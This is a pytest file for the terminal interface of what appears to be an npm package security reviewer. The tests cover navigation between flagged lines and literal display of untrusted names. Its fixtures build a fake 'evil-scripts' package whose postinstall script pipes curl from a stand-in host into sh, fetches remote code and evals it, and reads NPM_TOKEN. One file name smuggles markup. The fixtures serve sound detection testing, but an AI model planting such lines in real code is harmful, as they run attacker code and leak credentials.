"""The Code tab: jump from flagged line to flagged line (f / F, or a click on "line N"); the
code scrolls to the line, which is shown reversed under a caption saying which one it is."""

from __future__ import annotations

import json

import pytest
from rich.segment import Segment
from textual.geometry import Region
from tui_helpers import FakeProvider, MemoryTarball, rendered_text, settle, wait_until

from reviewer.tui.screens.main import MainScreen
from reviewer.tui.screens.summary import SummaryScreen
from reviewer.tui.widgets.code_scroll import CodeBody, CodeScroll

FILLER = "const unused{n} = {n} * 2;  // filler line {n}"


def install_js() -> tuple[str, dict[int, str]]:
    """A 260-line install script whose flagged lines are far apart (no two in one screen),
    and one 900-character line before a flagged one (wrapped rows to count)."""
    lines = [FILLER.format(n=n) for n in range(1, 261)]
    flagged = {
        3: "const cp = require('child_process');",
        4: "cp.exec('curl https://evil.example.invalid/payload | sh');",
        120: "require('https').get('https://evil.example.invalid/x');",
        200: "const token = process.env.NPM_TOKEN;",
        251: "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());",
    }
    lines[198] = "const long = '" + "x" * 900 + "';"  # line 199, cut and wrapped on screen
    for number, code in flagged.items():
        lines[number - 1] = code
    return "\n".join(lines) + "\n", flagged


def provider_with(code: str, **files: str) -> FakeProvider:
    provider = FakeProvider()
    provider.tarballs[("evil-scripts", "1.0.0")] = MemoryTarball({
        "package.json": files.pop("package_json", '{"name":"evil-scripts","scripts":{"postinstall":"node install.js"}}'),
        "install.js": code, **files})
    return provider


async def code_tab(pilot) -> tuple[MainScreen, CodeScroll]:
    await pilot.pause()
    if isinstance(pilot.app.screen, SummaryScreen):
        await pilot.press("s")
        await pilot.pause()
    main = pilot.app.screen
    assert isinstance(main, MainScreen)
    await settle(pilot)
    assert main.detail.key == "evil-scripts@1.0.0"
    await pilot.press("enter")  # the detail, full screen, focus in it
    await pilot.press("right_square_bracket")  # Overview → Code
    scroll = main.detail.query_one("#scroll-scripts", CodeScroll)
    await wait_until(pilot, lambda: "install.js" in rendered_text(scroll.body) and scroll.anchors())
    await settle(pilot)
    assert main.detail.active_tab == "scripts" and pilot.app.focused is scroll
    return main, scroll


def body_row(body: CodeBody, row: int) -> list[Segment]:
    (strip,) = body.render_lines(Region(0, row, body.size.width, 1))
    return list(strip)


def row_text(body: CodeBody, row: int) -> str:
    return "".join(segment.text for segment in body_row(body, row))


def assert_on_line(scroll: CodeScroll, line: int, code: str, path: str = "install.js") -> None:
    """The current flagged line is `line`: its row shows its number and its code, reversed,
    inside the visible part of the scroll, with the caption above it also on screen."""
    rows = scroll.current_rows()
    assert rows is not None
    caption_row, line_row = rows
    body = scroll.body
    text = row_text(body, line_row)
    assert f"{line} " in text and code[:40] in text, (line, text)
    marked = "".join(s.text for s in body_row(body, line_row) if s.style is not None and s.style.reverse)
    assert code[:40] in marked, (marked, body_row(body, line_row))
    assert f"{path}:{line}" in row_text(body, caption_row)
    top, height = round(scroll.scroll_y), scroll.scrollable_content_region.height
    assert top <= line_row < top + height, (top, line_row, height)
    assert top <= caption_row < top + height
    # no other line is shown as the current one
    reversed_rows = [r for r in range(body.size.height)
                     if any(s.style is not None and s.style.reverse and s.text.strip() for s in body_row(body, r))]
    assert reversed_rows == [line_row], reversed_rows


async def test_f_and_shift_f_walk_the_flagged_lines_and_the_code_follows(make_app, make_session):
    code, flagged = install_js()
    app = make_app(make_session(provider=provider_with(code)))
    async with app.run_test(size=(120, 30)) as pilot:
        _main, scroll = await code_tab(pilot)
        assert scroll.current is None and scroll.scroll_y == 0
        shown = [line for _chunk, line in scroll.anchors()]
        assert set(flagged) <= set(shown), shown  # every flagged line is a stop
        visited = []
        for _ in shown:
            await pilot.press("f")
            await settle(pilot)
            assert scroll.current is not None
            path, line = scroll.current
            assert path == "install.js"
            visited.append(line)
            if line in flagged:
                assert_on_line(scroll, line, flagged[line])
        assert visited == shown  # in order, each once
        await pilot.press("f")  # past the last one: back to the first
        await settle(pilot)
        assert scroll.current == ("install.js", shown[0])
        assert_on_line(scroll, shown[0], flagged[shown[0]])
        await pilot.press("F")  # and backwards: the last one again
        await settle(pilot)
        assert scroll.current == ("install.js", shown[-1])
        assert_on_line(scroll, shown[-1], flagged[shown[-1]])
        assert scroll.scroll_y > 0


async def test_a_click_on_line_n_jumps_to_that_line(make_app, make_session):
    code, flagged = install_js()
    app = make_app(make_session(provider=provider_with(code)))
    async with app.run_test(size=(120, 30)) as pilot:
        _main, scroll = await code_tab(pilot)
        body = scroll.body
        target = next(r for r in range(body.size.height) if "line 200" in row_text(body, r))
        column = row_text(body, target).index("line 200") + 2
        assert target < scroll.scrollable_content_region.height  # the list is on screen
        await pilot.click(body, offset=(column, target))
        await settle(pilot)
        assert scroll.current == ("install.js", 200)
        assert_on_line(scroll, 200, flagged[200])


async def test_no_flagged_line_says_so_and_nothing_moves(make_app, make_session):
    app = make_app(make_session(provider=provider_with("module.exports = 1;\n")))
    async with app.run_test(size=(120, 30)) as pilot:
        await pilot.pause()
        if isinstance(pilot.app.screen, SummaryScreen):
            await pilot.press("s")
        await settle(pilot)
        await pilot.press("enter", "right_square_bracket")
        main = pilot.app.screen
        assert isinstance(main, MainScreen)
        scroll = main.detail.query_one("#scroll-scripts", CodeScroll)
        await wait_until(pilot, lambda: "postinstall" in rendered_text(scroll.body))
        await settle(pilot)
        await pilot.press("f")
        await settle(pilot)
        assert scroll.current is None and scroll.scroll_y == 0
        assert any("No flagged lines" in n.message for n in app._notifications)


async def test_the_caption_shows_untrusted_names_and_code_literally(make_app, make_session):
    hostile = "[@click=app.quit]m[/].js"
    code = "module.exports = 1;\nfetch('https://x.example.invalid/[b]bold[/b]').then(r => r.text()).then(eval);\n"
    provider = provider_with("module.exports = 2;\n", **{
        "package_json": json.dumps({"name": "evil-scripts", "main": hostile,
                                    "scripts": {"postinstall": "node install.js"}}),
        hostile: code})
    app = make_app(make_session(provider=provider))
    async with app.run_test(size=(120, 30)) as pilot:
        await pilot.pause()
        if isinstance(pilot.app.screen, SummaryScreen):
            await pilot.press("s")
        await settle(pilot)
        await pilot.press("enter", "right_square_bracket")
        main = pilot.app.screen
        assert isinstance(main, MainScreen)
        scroll = main.detail.query_one("#scroll-scripts", CodeScroll)
        await wait_until(pilot, lambda: bool(scroll.anchors()))
        await pilot.press("f")
        await settle(pilot)
        assert scroll.current == (hostile, 2)
        assert_on_line(scroll, 2, code.split("\n")[1], path=hostile)
        caption_row, _ = scroll.current_rows() or (0, 0)
        assert "[b]bold[/b]" in row_text(scroll.body, caption_row + 2)
        assert app.is_running


@pytest.mark.parametrize("size", [pytest.param((80, 24), id="80x24"), pytest.param((160, 48), id="160x48")])
def test_snapshot_after_jumping_to_the_third_flagged_line(snap_compare, make_app, make_session, size):
    from test_tui_snapshots import steady

    code, _flagged = install_js()

    async def run_before(pilot) -> None:
        _main, scroll = await code_tab(pilot)
        await pilot.press("f", "f", "f")
        await settle(pilot)
        assert scroll.current is not None
        await steady(pilot)

    assert snap_compare(make_app(make_session(provider=provider_with(code))), terminal_size=size,
                        run_before=run_before)
